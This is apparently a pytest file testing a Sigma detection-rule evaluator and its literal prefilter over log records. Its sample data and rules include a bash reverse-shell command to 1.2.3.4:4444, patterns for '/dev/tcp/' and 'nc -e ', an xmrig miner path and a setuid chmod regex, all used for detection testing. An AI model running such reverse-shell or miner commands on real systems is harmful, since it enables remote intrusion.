"""The batch evaluator: Sigma semantics of the SQL it runs over flattened
records, and the literal prefilter that keeps most records out of SQLite
without ever losing a match."""

import json

import pytest

from alerts.sigma.compiler import compile_rule
from alerts.sigma.evaluator import BatchEvaluator
from alerts.sigma.prefilter import Anchors, Clause

ACCOUNT_A, ACCOUNT_B = 1, 2


def detection(logsource: str, body: str, condition: str = "selection") -> str:
    return (
        "title: Test\nlevel: high\n"
        f"logsource:\n  product: linux\n  {logsource}\n"
        f"detection:\n{body}  condition: {condition}\n"
    )


def evaluator(text: str, lists=None) -> tuple[BatchEvaluator, str]:
    compiled = compile_rule(text)
    queries = {("r", name): query for name, query in compiled.queries.items()}
    return BatchEvaluator(queries, lists), compiled.output


def row(record_id, log_type, fields, *, account=ACCOUNT_A, host="h1", ascii_only=True):
    text = json.dumps(fields, ensure_ascii=ascii_only)
    return (record_id, account, host, log_type, 1_795_000_000.0 + record_id, text)


def matched(text, rows, lists=None) -> list[int]:
    engine, output = evaluator(text, lists)
    try:
        result = engine.evaluate(rows)
        assert not result.errors, result.errors
        return sorted(m.record_id for m in result.matches[("r", output)])
    finally:
        engine.close()


PROCESS = "category: process_creation"
NETWORK = "category: network_connection"


def test_it_compares_strings_without_case_like_sigma():
    text = detection(PROCESS, "  selection:\n    Image|endswith: '/NC'\n    User: ROOT\n")

    assert matched(text, [row(1, "process", {"path": "/usr/bin/nc", "user": "root"})]) == [1]


def test_it_compares_with_case_when_the_rule_says_cased():
    text = detection(PROCESS, "  selection:\n    CommandLine|cased|contains: 'Invoke'\n")
    rows = [
        row(1, "process", {"cmdline": "x Invoke y"}),
        row(2, "process", {"cmdline": "x invoke y"}),
    ]

    assert matched(text, rows) == [1]


def test_it_reads_a_filter_on_a_field_the_record_lacks_as_false():
    text = detection(
        PROCESS,
        "  selection:\n    Image|endswith: '/bash'\n  filter:\n    ParentImage|endswith: '/sshd'\n",
        "selection and not filter",
    )
    rows = [
        row(1, "process", {"path": "/bin/bash"}),
        row(2, "process", {"path": "/bin/bash", "parent_path": "/usr/sbin/sshd"}),
    ]

    assert matched(text, rows) == [1]


def test_it_compares_numbers_as_numbers():
    text = detection(NETWORK, "  selection:\n    DestinationPort|gte: 1000\n")
    rows = [row(1, "network", {"dst_port": 999}), row(2, "network", {"dst_port": 40000})]

    assert matched(text, rows) == [2]


def test_it_matches_cidr_ranges():
    text = detection(NETWORK, "  selection:\n    DestinationIp|cidr: '192.168.0.0/16'\n")
    rows = [
        row(1, "network", {"dst_ip": "192.168.4.2"}),
        row(2, "network", {"dst_ip": "192.169.0.1"}),
    ]

    assert matched(text, rows) == [1]


def test_it_runs_regular_expressions_on_re2():
    text = detection(PROCESS, "  selection:\n    CommandLine|re: 'chmod\\s+[0-7]?4[0-7]{3}\\s'\n")
    rows = [
        row(1, "process", {"cmdline": "chmod 4755 /tmp/x"}),
        row(2, "process", {"cmdline": "chmod 755 /tmp/x"}),
    ]

    assert matched(text, rows) == [1]


def test_it_derives_initiated_and_the_uri_parts():
    outbound = detection(NETWORK, "  selection:\n    Initiated: 'true'\n")
    query = detection(
        "category: webserver",
        "  selection:\n    cs-uri-stem: '/index.php'\n    cs-uri-query|contains: 'cmd='\n",
    )

    assert matched(
        outbound, [row(1, "network", {"direction": "out"}), row(2, "network", {"direction": "in"})]
    ) == [1]
    assert matched(
        query,
        [
            row(1, "http", {"path": "/index.php?cmd=id"}),
            row(2, "http", {"path": "/index.php"}),
            row(3, "http", {"path": "/cmd=/index.php"}),
        ],
    ) == [1]


def test_it_matches_the_host_uuid_as_hostname():
    text = detection(PROCESS, "  selection:\n    Hostname: 'web-7'\n")

    assert matched(text, [row(1, "process", {}, host="web-7"), row(2, "process", {})]) == [1]


def test_it_looks_a_list_up_in_the_records_own_account():
    text = detection(NETWORK, "  selection:\n    DestinationIp|expand: '%bad_ips%'\n")
    lists = {"bad_ips": {ACCOUNT_A: {"203.0.113.9"}}}
    rows = [
        row(1, "network", {"dst_ip": "203.0.113.9"}, account=ACCOUNT_A),
        row(2, "network", {"dst_ip": "203.0.113.9"}, account=ACCOUNT_B),
        row(3, "network", {"dst_ip": "203.0.113.90"}, account=ACCOUNT_A),
    ]

    assert matched(text, rows, lists) == [1]


def test_it_matches_nothing_against_an_empty_list():
    text = detection(NETWORK, "  selection:\n    DestinationIp|expand: '%bad_ips%'\n")

    assert matched(text, [row(1, "network", {"dst_ip": "203.0.113.9"})], {"bad_ips": {}}) == []


def test_it_reports_the_records_of_the_batch_per_account_and_log_type():
    engine, _ = evaluator(detection(PROCESS, "  selection:\n    Image: x\n"))
    result = engine.evaluate(
        [
            row(1, "process", {}),
            row(2, "process", {}, account=ACCOUNT_B),
            row(3, "process", {}, account=ACCOUNT_B),
        ]
    )

    assert result.examined == {(ACCOUNT_A, "process"): 1, (ACCOUNT_B, "process"): 2}


# --- the prefilter ---------------------------------------------------------------------


def anchors_of(body: str, condition: str = "selection", logsource: str = PROCESS) -> Anchors | None:
    compiled = compile_rule(detection(logsource, body, condition))
    return next(iter(compiled.queries.values())).anchors


def test_it_takes_a_literal_from_every_branch_of_an_or():
    found = anchors_of(
        "  selection:\n    CommandLine|contains:\n      - '/dev/tcp/'\n      - 'NC -e '\n"
    )

    assert found == Anchors((Clause(literals=frozenset({"/dev/tcp/", "nc -e "})),))


def test_it_anchors_whole_string_values_at_their_quotes():
    rule = detection(
        PROCESS,
        "  selection:\n    User: nginx\n    Image|endswith: '/id'\n"
        "    ParentImage|startswith: '/usr/sbin/'\n",
    )
    rows = [
        row(
            1, "process", {"user": "NGINX", "path": "/usr/bin/id", "parent_path": "/usr/sbin/nginx"}
        ),
        # nginx, /id and /usr/sbin/ all appear, never as the whole, end or start of the field
        row(2, "process", {"user": "nginx2", "path": "/usr/bin/id", "parent_path": "/usr/sbin/x"}),
        row(3, "process", {"cmdline": "nginx -s reload /id /usr/sbin/", "user": "root"}),
    ]
    engine, output = evaluator(rule)

    result = engine.evaluate(rows)

    assert [m.record_id for m in result.matches[("r", output)]] == [1]
    assert result.candidates == 1


def test_it_needs_a_literal_of_every_branch_of_an_and_that_has_some():
    found = anchors_of(
        "  selection:\n    Image|endswith: '/chmod'\n    CommandLine|re: '\\+s'\n"
        "    User: [www-data, nginx]\n"
    )

    # The longest shortest literal first: it lets fewest records through.
    assert found == Anchors(
        (
            Clause(literals=frozenset({'/chmod"'})),
            Clause(literals=frozenset({'"www-data"', '"nginx"'})),
        )
    )


@pytest.mark.parametrize(
    "body",
    [
        "  selection:\n    CommandLine|re: 'x.*y'\n",
        "  selection:\n    DestinationIp|cidr: '10.0.0.0/8'\n",
        "  selection:\n    Initiated: 'true'\n",
        "  selection:\n    CommandLine: 'caf\u00e9'\n",
        "  selection:\n    CommandLine|contains: 'say \"hi\"'\n",
    ],
)
def test_it_sends_every_record_on_when_a_condition_has_no_safe_literal(body):
    logsource = NETWORK if "Ip" in body or "Initiated" in body else PROCESS

    assert anchors_of(body, logsource=logsource) is None


def test_it_never_loses_a_match_to_the_prefilter():
    text = detection(
        PROCESS,
        "  selection:\n    CommandLine|contains: '/dev/tcp/'\n"
        "  other:\n    Image|endswith: '/xmrig'\n",
        "selection or other",
    )
    rows = [
        row(i, "process", {"cmdline": f"ls -la /srv/{i}", "path": "/bin/ls"}) for i in range(500)
    ]
    rows += [
        row(900, "process", {"cmdline": "bash -i >& /DEV/TCP/1.2.3.4/4444", "path": "/bin/bash"}),
        # Lower-casing "İ" adds a character: the positions of the batch shift.
        row(901, "process", {"cmdline": "İİİ /dev/tcp/x", "path": "/bin/sh"}, ascii_only=False),
        row(902, "process", {"cmdline": "./xmrig", "path": "/tmp/xmrig"}, ascii_only=False),
    ]
    engine, output = evaluator(text)

    result = engine.evaluate(rows)

    assert sorted(m.record_id for m in result.matches[("r", output)]) == [900, 901, 902]
    assert result.candidates == 3


def test_it_keeps_every_record_of_a_log_type_whose_rule_has_no_literal():
    engine, _ = evaluator(detection(PROCESS, "  selection:\n    CommandLine|re: 'a+'\n"))

    result = engine.evaluate([row(i, "process", {"cmdline": "zzz"}) for i in range(10)])

    assert result.candidates == 10
